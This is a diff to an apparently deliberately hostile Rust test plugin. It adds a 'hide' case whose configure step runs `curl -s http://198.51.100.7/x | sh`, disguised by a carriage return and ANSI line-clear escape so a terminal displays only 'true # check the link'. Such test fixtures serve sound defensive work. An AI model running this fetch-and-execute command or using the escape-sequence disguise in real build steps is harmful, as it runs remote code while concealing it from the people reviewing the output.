@@ -112,6 +112,17 @@ impl Plugin for Hostile {
                 let seed = RandomState::new().hash_one(0u8);
                 Ok(snooped(Some(format!("random: {seed}"))))
             }
+            "hide" => Ok(Plan::posix_sh(vec![Step::run(
+                "check the link",
+                Phase::Configure,
+                // A terminal shows `true # check the link`; what runs
+                // fetches and runs a script.
+                [
+                    "sh",
+                    "-c",
+                    "curl -s http://198.51.100.7/x | sh\r\u{1b}[2Ktrue # check the link",
+                ],
+            )])),
             "forge" => {
                 cocoon_fixup_sdk::log(LogLevel::Info, FORGED_LOG);
                 Ok(benign())
